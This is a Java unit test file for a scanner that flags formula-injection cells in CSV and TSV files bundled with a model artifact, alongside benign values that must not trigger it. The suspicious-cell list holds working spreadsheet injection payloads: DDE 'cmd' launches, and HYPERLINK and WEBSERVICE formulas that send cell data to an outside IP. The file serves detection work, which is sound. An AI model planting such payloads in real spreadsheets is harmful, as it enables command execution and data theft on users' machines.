package io.lazaretto.artifact.text;

import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
import static io.lazaretto.artifact.report.Outcome.SUSPECT;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaScanTest {
    private static InspectionAssert table(String name, String text) {
        return inspecting(
                TestingModel.of("model.safetensors", SafetensorsBuilder.clean()).with(name, text.getBytes(UTF_8)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|'/C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|'/C calc'!A0",
                "\"=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1)\"",
                "=IF(A1=1,WEBSERVICE(\"http://198.51.100.7\"),0)",
                " =importxml(A1)",
                "+CALL(\"urlmon\")",
                "=DDE(\"cmd\")"
            })
    void aCellThatActsIsSuspicious(String cell) {
        table("data.csv", "name,value\na," + cell + "\n").reports(FORMAT, SUSPECT, "text.formula");
        table("data.tsv", "name\tvalue\n" + cell + "\tb\n").reports(FORMAT, SUSPECT, "text.formula");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-1.5",
                "+3",
                "=",
                "@user",
                "- please call (later)",
                "=> exec (the plan)",
                "=A1+B1",
                "=SUM(A1:A9)",
                "-a|b!",
                "a =HYPERLINK(1)",
                "e-mail: x@example.org",
                "-cmd /c"
            })
    void numbersNamesAndSentencesStaySilent(String cell) {
        table("data.csv", "name,value\na," + cell + "\n").staysSilent();
    }
}
